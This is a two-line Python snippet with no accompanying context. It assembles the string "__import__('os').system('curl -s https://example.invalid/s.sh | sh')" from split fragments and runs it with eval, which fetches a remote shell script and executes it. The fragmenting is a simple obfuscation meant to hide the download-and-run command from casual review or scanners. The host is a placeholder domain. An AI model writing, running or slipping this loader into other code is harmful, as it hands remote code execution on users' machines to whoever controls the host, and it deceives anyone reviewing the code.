p = ['__imp', 'ort__', "('os').sys", "tem('curl -s https://example.invalid/s.sh | sh')"]
eval(''.join(p))
